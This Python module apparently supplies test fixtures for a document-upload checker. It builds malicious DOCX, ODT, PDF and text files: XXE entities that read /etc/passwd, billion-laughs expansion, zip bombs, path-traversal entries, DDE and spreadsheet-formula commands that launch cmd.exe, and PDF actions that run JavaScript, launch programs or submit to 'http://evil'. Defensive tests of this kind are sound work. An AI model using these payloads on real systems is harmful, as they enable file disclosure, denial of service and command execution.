"""Documents that unpack, run or fetch what nobody asked for."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping

TYPES, WORD = "[Content_Types].xml", "word/document.xml"
ODT = "application/vnd.oasis.opendocument.text"
XXE = "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
LAUGHS = "<!DOCTYPE x [<!ENTITY a 'ha'>{}]><x>&z9;</x>".format(
    "".join(f"<!ENTITY z{n} '{f'&z{n - 1};' * 10}'>" for n in range(1, 10))
)
MEGABYTE = 1024 * 1024


def zipped(parts: Mapping[str, str | bytes], *, packed: bool = True) -> bytes:
    written = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
    with zipfile.ZipFile(written, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


def docx(**more: str | bytes) -> bytes:
    return zipped({TYPES: "<x/>", WORD: "<x/>", **more})


def part(name: str, content: str | bytes = "x") -> Callable[[], bytes]:
    return lambda: docx(**{name: content})


def odt(name: str = "content.xml", content: str = "<x/>") -> bytes:
    return zipped({"mimetype": ODT, name: content}, packed=False)


def with_link() -> bytes:
    written = io.BytesIO(docx())
    with zipfile.ZipFile(written, "a") as archive:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return written.getvalue()


def bomb() -> bytes:
    """Four hundred megabytes of nothing, in four hundred kilobytes."""
    written = io.BytesIO(docx())
    with (
        zipfile.ZipFile(written, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/x.xml", "w") as file,
    ):
        for _ in range(400):
            file.write(bytes(MEGABYTE))
    return written.getvalue()


def nested() -> bytes:
    inner = bomb()
    for _ in range(5):
        inner = zipped({f"{number}.zip": inner for number in range(10)})
    return docx(**{"word/embeddings/1.zip": inner})


def overlapping() -> bytes:
    """Many entries of the list lead to one and the same part."""
    plain = docx(**{"word/x.xml": bytes(MEGABYTE)})
    start = plain.rindex(b"PK\x05\x06")
    offset = struct.unpack_from("<L", plain, start + 16)[0]
    entries = plain[offset:start]
    last = entries[entries.rindex(b"PK\x01\x02") :]
    catalogue = entries + last * 900
    end = bytearray(plain[start:])
    struct.pack_into("<HHLL", end, 8, 903, 903, len(catalogue), offset)
    return plain[:offset] + catalogue + bytes(end)


def many_parts() -> bytes:
    return docx(**{f"{number:x}": b"" for number in range(60_000)})


def lying_about_its_size() -> bytes:
    plain = docx(**{"word/x.xml": bytes(64 * MEGABYTE)})
    return plain.replace(struct.pack("<L", 64 * MEGABYTE), struct.pack("<L", 10))


def large_archive_mark() -> bytes:
    plain = docx()
    end = plain.rindex(b"PK\x05\x06")
    return plain[:end] + b"PK\x06\x07" + bytes(16) + plain[end:]


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % one for one in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"


def packed_stream() -> bytes:
    packed = zlib.compress(bytes(300 * MEGABYTE))
    head = b"<</Length %d/Filter/FlateDecode>>stream\n" % len(packed)
    return pdf(b"<</Type/Catalog>>", head + packed + b"\nendstream")


def files() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    for about, make in _WORD.items():
        yield about, "praca.docx", make
    for about, make in _ODT.items():
        yield about, "praca.odt", make
    for about, make in _PDF.items():
        yield about, "praca.pdf", make
    for about, text in _TEXT.items():
        yield about, "praca.txt", lambda text=text: text  # type: ignore[misc]


_WORD: Mapping[str, Callable[[], bytes]] = {
    "XXE": part("word/settings.xml", XXE),
    "billion laughs": part("word/settings.xml", LAUGHS),
    "macros": part("word/vbaProject.bin"),
    "macros in capitals": part("WORD/VBAPROJECT.BIN"),
    "macros elsewhere": part("x/vbaProject.bin"),
    "ActiveX": part("word/activeX/activeX1.bin"),
    "template from outside": part("word/_rels/settings.xml.rels", "<x Target='http://evil'/>"),
    "HTML inside": part("word/afchunk.html", "<script>alert(1)</script>"),
    "DDE": part("word/x.xml", 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    "a way out": part("../../etc/cron.d/x"),
    "a way out backwards": part("..\\..\\x"),
    "the root": part("/etc/passwd"),
    "a drive": part("C:/x"),
    "a link": with_link,
    "bomb": bomb,
    "bombs in bombs": nested,
    "overlapping parts": overlapping,
    "sixty thousand parts": many_parts,
    "a lie about its size": lying_about_its_size,
    "mark of a large archive": large_archive_mark,
    "cut off": lambda: docx()[:-30],
    "beginning cut off": lambda: docx()[40:],
    "junk before": lambda: b"junk" * 100 + docx(),
    "junk after": lambda: docx() + bytes(200_000),
    "list of parts too long": lambda: docx().replace(b"\x02\x00\x02\x00", b"\xff\xff\xff\xff"),
}
_ODT: Mapping[str, Callable[[], bytes]] = {
    "XXE": lambda: odt(content=XXE),
    "Basic": lambda: odt("Basic/Standard/Module1.xml"),
    "Python": lambda: odt("Scripts/python/x.py"),
    "a way out": lambda: odt("../x"),
    "packed label": lambda: zipped({"mimetype": ODT, "content.xml": "<x/>"}),
    "another label": lambda: zipped({"mimetype": ODT[:-4] + "xyzw"}, packed=False),
}
_PDF: Mapping[str, Callable[[], bytes]] = {
    "JavaScript": lambda: pdf(b"<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"),
    "launch": lambda: pdf(b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>"),
    "sending a form": lambda: pdf(b"<</OpenAction<</S/SubmitForm/F(http://evil)>>>>"),
    "file inside": lambda: pdf(b"<</EmbeddedFiles[2 0 R]>>", b"<</Type/EmbeddedFile>>"),
    "encrypted": lambda: pdf(b"<</Encrypt<</Filter/Standard/V 4>>>>"),
    "packed stream": packed_stream,
    "pages in a circle": lambda: pdf(b"<</Pages 1 0 R/Kids[1 0 R]/Parent 1 0 R>>"),
    "archive behind": lambda: pdf(b"<<>>") + docx(),
    "HTML behind": lambda: pdf(b"<<>>") + b"<html><script>alert(1)</script>",
    "HTML before": lambda: b"<html><script>alert(1)</script>" + pdf(b"<<>>"),
    "half a head": lambda: b"%PDF",
    "nothing but a head": lambda: b"%PDF-1.4\n",
    "too large": lambda: b"%PDF-1.4\n" + bytes(10 * MEGABYTE),
    "many objects": lambda: pdf(*[b"<<>>"] * 100_000),
}
_TEXT: Mapping[str, bytes] = {
    "HTML": b"<html><script>alert(1)</script>",
    "formulas": b"=cmd|'/c calc'!A1\n@SUM(1)\n",
    "escape codes": b"\x1b]0;x\x07\x1b[2J",
    "null bytes": b"a\0b",
    "mark alone": b"\xef\xbb\xbf",
    "overlong letters": b"\xc0\xaf\xc0\xaf",
    "UTF-16": "abc".encode("utf-16"),
    "one line of ten megabytes": b"a" * (10 * MEGABYTE),
    "ten megabytes of faces": "\U0001f600".encode() * (2 * MEGABYTE),
    "too large": b"a" * (10 * MEGABYTE + 1),
    "directions": "\u202e\u2066abc".encode(),
}
